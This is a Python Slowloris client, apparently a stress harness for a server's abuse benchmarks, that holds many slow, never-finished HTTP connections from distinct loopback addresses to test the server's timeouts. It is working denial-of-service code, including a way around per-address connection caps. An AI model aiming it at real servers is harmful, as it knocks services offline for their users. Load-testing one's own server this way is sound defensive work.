#!/usr/bin/env python3
"""Slowloris clients for bench/abuse/run.sh: N connections, each from its own loopback address
(127.0.1.1, 127.0.1.2, ...), each sending a request head one byte per second and never finishing
it. A connection the server closes is opened again at once, so N stay in play for the whole run.
Distinct addresses keep a per-address connection cap from being the defence: the server's size
and timeouts are. Runs until killed; prints one line per second with the connections held and the
reconnects so far.

    slowloris.py PORT [N=50]
"""
import selectors
import socket
import sys
import time

PORT = int(sys.argv[1])
N = int(sys.argv[2]) if len(sys.argv) > 2 else 50
HEAD = b"GET /metrics HTTP/1.1\r\nHost: victim\r\nX-Slow: " + b"a" * 100000

sel = selectors.DefaultSelector()
conns = {}  # socket -> [source address, bytes sent]
reconnects = 0


def open_conn(source):
    s = socket.socket()
    s.bind((source, 0))
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", PORT))
    except BlockingIOError:
        pass
    conns[s] = [source, 0]
    sel.register(s, selectors.EVENT_READ)


def drop(s):
    sel.unregister(s)
    source = conns.pop(s)[0]
    s.close()
    return source


for i in range(N):
    open_conn(f"127.0.1.{i + 1}")

next_byte = time.monotonic()
next_report = time.monotonic() + 1
while True:
    timeout = max(0.0, min(next_byte, next_report) - time.monotonic())
    for key, _ in sel.select(timeout):
        s = key.fileobj
        try:
            closed = s.recv(4096) == b""
        except (ConnectionError, OSError):
            closed = True
        if closed:
            reconnects += 1
            open_conn(drop(s))
    now = time.monotonic()
    if now >= next_byte:
        next_byte += 1
        for s, state in list(conns.items()):
            try:
                s.send(HEAD[state[1]:state[1] + 1])
                state[1] += 1
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                reconnects += 1
                open_conn(drop(s))
    if now >= next_report:
        next_report += 1
        print(f"held={len(conns)} reconnects={reconnects}", flush=True)
